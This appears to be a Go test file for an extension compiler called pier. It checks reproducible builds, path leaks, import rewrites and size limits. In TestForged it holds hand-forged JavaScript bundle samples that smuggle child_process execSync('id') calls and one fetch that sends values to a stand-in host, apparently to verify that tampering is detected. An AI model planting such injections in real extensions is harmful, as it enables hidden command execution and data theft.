package extc_test

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/cec80427/pier/internal/load/extc"
	"github.com/cec80427/pier/internal/load/source"
)

var modular = map[string]string{
	"index.ts": `import { readFileSync } from "node:fs";
import * as path from "path";
import "pi:polyfills/fetch";
import { named } from "./lib/named";
import old from "./old.cjs";
export default (pi: any) => pi.x(readFileSync, path, named, old, import.meta.url);
`,
	"lib/named.ts": "export class Named {}\nexport const named = () => __filename;\n",
	"old.cjs":      "exports.old = require('os').tmpdir; exports.gone = () => require('./nowhere');\n",
}

// TestModule: a module is the same wherever its sources lie, names none of the folders they lie in, and says what was rewritten.
func TestModule(t *testing.T) {
	for name, form := range map[string]extc.Form{"plain": {}, "minified": {Minify: true}, "inline": {Inline: true}} {
		t.Run(name, func(t *testing.T) {
			var first *extc.Module
			for _, place := range []string{"a", "b/deeper"} {
				dir := filepath.Join(t.TempDir(), place)
				lay(t, dir, modular)
				m := moduleOf(t, dir, form)
				if first == nil {
					first = m
				}
				if !bytes.Equal(m.Text, first.Text) || !bytes.Equal(m.Map, first.Map) {
					t.Errorf("it is another one in %s", place)
				}
				if bytes.Contains(m.Text, []byte(filepath.ToSlash(dir))) || bytes.Contains(m.Map, []byte(filepath.ToSlash(dir))) {
					t.Errorf("it names %s", dir)
				}
			}
			var log []string
			for _, r := range first.Rewrites {
				for _, at := range r.Locations {
					log = append(log, r.From+" "+r.To+" "+at.File)
				}
			}
			if got, want := strings.Join(log, "; "), "node:fs pi:node/fs index.ts; os pi:node/os old.cjs; path pi:node/path index.ts; pi:polyfills/fetch pi:node/stream_web index.ts"; got != want {
				t.Errorf("rewritten are %s", got)
			}
		})
	}
}

func moduleOf(t *testing.T, dir string, form extc.Form) *extc.Module {
	t.Helper()
	list, err := source.Find(dir)
	if err != nil {
		t.Fatal(err)
	}
	m, err := extc.CompileModule(list[0], form)
	if err != nil {
		t.Fatal(err)
	}
	return m
}

// TestLargeSource: a source that is too large is one error that names it.
func TestLargeSource(t *testing.T) {
	dir := t.TempDir()
	lay(t, dir, map[string]string{"index.ts": ""})
	if err := os.Truncate(filepath.Join(dir, "index.ts"), 65<<20); err != nil {
		t.Fatal(err)
	}
	list, err := source.Find(dir)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := extc.Compile(list[0], nil); err == nil || !strings.Contains(err.Error(), "index.ts") || !strings.Contains(err.Error(), "is larger than 64 MiB") {
		t.Errorf("%v", err)
	}
}

// TestForged: what somebody wrote into an artifact by hand, in place of what the bundler writes, hides nothing.
func TestForged(t *testing.T) {
	const (
		head = "export default async function (__pier_host, __pier_root) {\n\"use strict\"; let __pier_ns; const __pier_entry = (ns) => { __pier_ns = ns; };\n"
		tail = "\n// x.ts\n__pier_entry({ default: (pi) => {} });\n\nreturn { ns: __pier_ns, plain: false };\n}\n"
		run  = `("pi:node/child_process").execSync("id")`
	)
	for name, module := range map[string]string{
		"a function that names classes":    head + "var __name = (t) => { __pier_host" + run + "; return t; };" + tail,
		"one that imports":                 head + "var __toESM = () => __pier_host(\"pi:node/child_process\");\n// x.ts\n__toESM({}).execSync(\"id\");" + tail,
		"one that asks the network":        head + "var __export = (t, v) => { fetch(\"https://x.example/\" + v); };" + tail,
		"one that takes the entry":         strings.Replace(head, "__pier_ns = ns;", "__pier_host"+run+";", 1) + tail,
		"what all modules get, renamed":    head + "const host = __pier_host;\nhost" + run + ";" + tail,
		"what all modules get, handed on":  head + "const host = [\"pi:node/child_process\"].map(__pier_host);\nhost[0].execSync(\"id\");" + tail,
		"what all modules get, by its row": head + "arguments[0]" + run + ";" + tail,
		"a module that is computed":        head + "__pier_host(__pier_root).execSync(\"id\");" + tail,
		"a function of another shape":      strings.ReplaceAll(head, "__pier_host", "host") + "host" + run + ";" + strings.ReplaceAll(tail, "__pier_host", "host"),
	} {
		dir := t.TempDir()
		a := &source.Artifact{Schema: source.ArtifactSchema, ExtensionID: "x", EntryModule: "index.js", ModuleHash: source.SumOf([]byte(module)), ShimVersion: source.SumOf(nil)}
		var err error
		if a.Hash, err = a.Sum(); err != nil {
			t.Fatal(err)
		}
		text, err := a.Text()
		if err != nil {
			t.Fatal(err)
		}
		for file, data := range map[string][]byte{"index.js": []byte(module), source.ArtifactName: text} {
			if err := os.WriteFile(filepath.Join(dir, file), data, 0o600); err != nil {
				t.Fatal(err)
			}
		}
		found, err := source.Find(dir)
		if err != nil {
			t.Fatal(name, err)
		}
		b, err := extc.Compile(found[0], nil)
		if err != nil {
			if !strings.Contains(err.Error(), "is no module that pier built") {
				t.Error(name, err)
			}
			continue
		}
		if r, err := b.Scan(); err != nil || len(r.Needs) == 0 {
			t.Errorf("%s: %+v %v", name, r, err)
		}
	}
}
